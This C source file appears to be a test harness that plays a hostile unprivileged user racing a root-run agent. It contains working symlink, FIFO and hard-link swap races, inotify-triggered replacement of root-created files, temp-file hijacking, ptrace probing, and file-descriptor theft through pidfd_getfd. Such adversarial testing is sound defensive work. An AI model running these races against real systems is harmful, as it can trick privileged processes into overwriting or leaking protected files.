/*
 * What a hostile user runs beside the agent, without end, and what a watchful root runs to notice. Names are beside each
 * other in a directory of that user; TARGET is what root must not be led to.
 *
 *   parent DIR TARGET      a directory on the way, and a symlink to TARGET, in turn under one name
 *   away DIR TARGET        the directory moved away, a symlink in its place, and back
 *   sink FILE TARGET       the file, a symlink, a FIFO, a huge sparse file, and FILE.hard, in turn under one name
 *   temps FILE TARGET      whatever else appears as FILE.something becomes a symlink, a FIFO, or two names
 *   race DIR HOW           what root makes in DIR gives way to a file of this user's as soon as it appears: HOW is rename,
 *                          link (to an own name first), or exchange
 *   signal NUMBER          every other process of this user: looked into, then signalled
 *   steal NUMBER           takes descriptors out of every other process of this user, each stopped for so many milliseconds
 *   watch FLAGS FILE...    a line for each event on a file, or in a directory: `r` opened or read, `w` changed
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define HUGE_SIZE ((off_t)1 << 40)

static char scratch[PATH_MAX + 16];

static const char *beside(const char *path, const char *suffix)
{
    snprintf(scratch, sizeof scratch, "%s%s", path, suffix);
    return scratch;
}

/* Now and then long enough for a whole write, mostly none at all. Microseconds. */
static void breathe(void)
{
    if (rand() % 3 == 0)
        usleep(rand() % 4000);
}

static int exchange(const char *one, const char *other)
{
    return renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void parent(const char *path, const char *target)
{
    const char *link = strdup(beside(path, ".link"));
    for (;;) {
        symlink(target, link);
        mkdir(path, 0700);
        exchange(path, link);
        breathe();
    }
}

static void away(const char *path, const char *target)
{
    const char *aside = strdup(beside(path, ".aside"));
    for (;;) {
        mkdir(path, 0700);
        breathe();
        /* What the agent has made again meanwhile changes places with it. */
        if (rename(path, aside))
            exchange(path, aside);
        breathe();
        symlink(target, path);
        breathe();
        unlink(path);
        breathe();
        rename(aside, path);
    }
}

static void put(const char *made, const char *path)
{
    if (exchange(made, path) && errno == ENOENT)
        rename(made, path);
    breathe();
    unlink(made);
}

static void make(const char *path, off_t size)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0600);
    if (fd < 0 || ftruncate(fd, size))
        return;
    close(fd);
}

static void sink(const char *path, const char *target)
{
    const char *made = strdup(beside(path, ".made"));
    const char *hard = strdup(beside(path, ".hard"));
    for (;;) {
        symlink(target, made);
        put(made, path);
        mkfifo(made, 0600);
        put(made, path);
        make(made, HUGE_SIZE);
        put(made, path);
        exchange(hard, path);
        breathe();
        exchange(hard, path);
        make(made, 0);
        put(made, path);
        /* Now a whole pass may find the file. */
        usleep(rand() % 100000);
    }
}

static int is_temp(const char *name, const char *sink)
{
    size_t length = strlen(sink);
    return *name++ == '.' && !strncmp(name, sink, length) && name[length] == '.' && !strstr(name, ".stolen");
}

static void spoil(const char *temp, const char *target, int how)
{
    const char *stolen = strdup(beside(temp, ".stolen"));
    if (how == 0)
        link(temp, stolen);
    else if (how == 1)
        rename(temp, stolen);
    else
        unlink(temp);
    if (how == 3)
        mkfifo(temp, 0600);
    else if (how != 0)
        symlink(target, temp);
    free((void *)stolen);
}

static void temps(char *path, const char *target)
{
    char *name = strrchr(path, '/');
    *name++ = 0;
    if (chdir(path))
        exit(1);
    for (unsigned n = 0;;) {
        DIR *directory = opendir(".");
        struct dirent *entry;
        while (directory && (entry = readdir(directory)))
            if (is_temp(entry->d_name, name) && entry->d_type == DT_REG)
                spoil(entry->d_name, target, n++ % 5);
        closedir(directory);
    }
}

#define HELD 256

/* Files that this user made, and still holds when they have another owner. */
static int held[HELD];

static void look_for_spoils(void)
{
    struct stat stat;
    for (int i = 0; i < HELD; i++)
        if (held[i] > 0 && !fstat(held[i], &stat) && stat.st_size > 0) {
            printf("has %ld bytes that root wrote\n", (long)stat.st_size);
            close(held[i]);
            held[i] = 0;
        }
}

/* Made ahead: each microsecond counts. */
static const char *prepare(int number)
{
    static char own[64];
    snprintf(own, sizeof own, "own-%d", number);
    if (held[number % HELD] > 0)
        close(held[number % HELD]);
    held[number % HELD] = open(own, O_RDWR | O_CREAT, 0600);
    return own;
}

/* At once, or some steps of root's later. */
static void put_own(const char *name, const char *own, const char *how)
{
    struct stat stat;
    int wait = rand() % 3;
    for (volatile int spin = wait == 1 ? rand() % 40000 : 0; spin > 0;)
        spin--;
    if (wait == 2)
        usleep(rand() % 4000);
    if (lstat(name, &stat) || stat.st_uid)
        return;
    if (!strcmp(how, "link"))
        link(name, beside(own, ".aside"));
    if (strcmp(how, "exchange") || exchange(own, name))
        rename(own, name);
}

static void race(const char *path, const char *how)
{
    char buffer[4096] __attribute__((aligned(8)));
    int fd = inotify_init1(IN_CLOEXEC), number = 0;
    if (chdir(path) || inotify_add_watch(fd, ".", IN_CREATE | IN_ATTRIB) < 0)
        exit(1);
    const char *own = prepare(number);
    for (ssize_t length; (length = read(fd, buffer, sizeof buffer)) > 0;) {
        for (char *at = buffer; at < buffer + length;) {
            struct inotify_event *event = (void *)at;
            if (strncmp(event->name, "own-", 4)) {
                put_own(event->name, own, how);
                own = prepare(++number);
            }
            at += sizeof *event + event->len;
        }
        look_for_spoils();
    }
}

static int is_mine(int pid)
{
    char path[64], line[256];
    unsigned real = 0, effective = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "r");
    if (!status)
        return 0;
    while (fgets(line, sizeof line, status) && sscanf(line, "Uid: %u %u", &real, &effective) != 2)
        ;
    fclose(status);
    return real == getuid() && effective == getuid();
}

/* Of a process that has just ended, some files can be opened, and are empty. */
static void look_into(int pid)
{
    const char *names[] = {"environ", "maps", "fd/0"};
    char path[64], byte;
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        int fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0 && (read(fd, &byte, 1) > 0 || i == 2))
            printf("looked into %s\n", path);
        close(fd);
    }
    struct iovec here = {&byte, 1}, there = {(void *)4096, 1};
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT)
        printf("read from %d\n", pid);
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0))
        printf("traced %d\n", pid);
}

static void signal_all(int number)
{
    for (;;) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        while (directory && (entry = readdir(directory))) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == getpid() || !is_mine(pid))
                continue;
            look_into(pid);
            usleep(rand() % 30000);
            kill(pid, number);
        }
        closedir(directory);
    }
}

/* Another name of what this user could open anyway is no loot. */
static void judge_loot(int pid, int number, int fd)
{
    char link[64], path[PATH_MAX];
    struct stat stat;
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(link, path, sizeof path - 1);
    path[length < 0 ? 0 : length] = 0;
    if (fstat(fd, &stat) || stat.st_uid == getuid())
        return;
    int is_file = S_ISREG(stat.st_mode) || S_ISDIR(stat.st_mode);
    struct sockaddr_storage peer;
    socklen_t size = sizeof peer;
    int is_connection = S_ISSOCK(stat.st_mode) && !getpeername(fd, (void *)&peer, &size) && peer.ss_family != AF_UNIX;
    int writes = (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY;
    if (is_connection || (is_file && access(path, writes ? W_OK : R_OK)))
        printf("took %d of %d: %s\n", number, pid, path);
}

static int take_from(int pid)
{
    int taken = 0, process = syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; process >= 0 && number < 256; number++) {
        int fd = syscall(SYS_pidfd_getfd, process, number, 0);
        if (fd < 0)
            continue;
        taken++;
        judge_loot(pid, number, fd);
        close(fd);
    }
    close(process);
    return taken;
}

static void steal(int milliseconds)
{
    for (int looked = 0;;) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;
        int before = looked;
        while (directory && (entry = readdir(directory))) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == getpid() || !is_mine(pid))
                continue;
            kill(pid, SIGSTOP);
            looked += take_from(pid) > 0;
            usleep(milliseconds * 1000);
            kill(pid, SIGCONT);
        }
        closedir(directory);
        if (looked > before)
            printf("looked %d\n", looked);
    }
}

static void watch(const char *flags, char **paths)
{
    unsigned read_mask = strchr(flags, 'r') ? IN_OPEN | IN_ACCESS : 0;
    unsigned write_mask = strchr(flags, 'w') ? IN_MODIFY | IN_ATTRIB | IN_CREATE | IN_DELETE | IN_MOVE : 0;
    char buffer[4096] __attribute__((aligned(8)));
    int fd = inotify_init1(IN_CLOEXEC);
    for (; *paths; paths++)
        if (inotify_add_watch(fd, *paths, read_mask | write_mask | IN_MODIFY) < 0)
            exit(1);
    puts("watching");
    for (ssize_t length; (length = read(fd, buffer, sizeof buffer)) > 0;)
        for (char *at = buffer; at < buffer + length;) {
            struct inotify_event *event = (void *)at;
            printf("event %#x %s\n", event->mask, event->len ? event->name : "");
            at += sizeof *event + event->len;
        }
}

int main(int count, char **words)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    srand(getpid());
    const char *mode = count > 2 ? words[1] : "";
    if (!strcmp(mode, "signal"))
        signal_all(atoi(words[2]));
    if (!strcmp(mode, "steal"))
        steal(atoi(words[2]));
    if (count < 4)
        return 1;
    if (!strcmp(mode, "parent"))
        parent(words[2], words[3]);
    if (!strcmp(mode, "away"))
        away(words[2], words[3]);
    if (!strcmp(mode, "sink"))
        sink(words[2], words[3]);
    if (!strcmp(mode, "temps"))
        temps(words[2], words[3]);
    if (!strcmp(mode, "race"))
        race(words[2], words[3]);
    if (!strcmp(mode, "watch"))
        watch(words[2], words + 3);
    return 1;
}
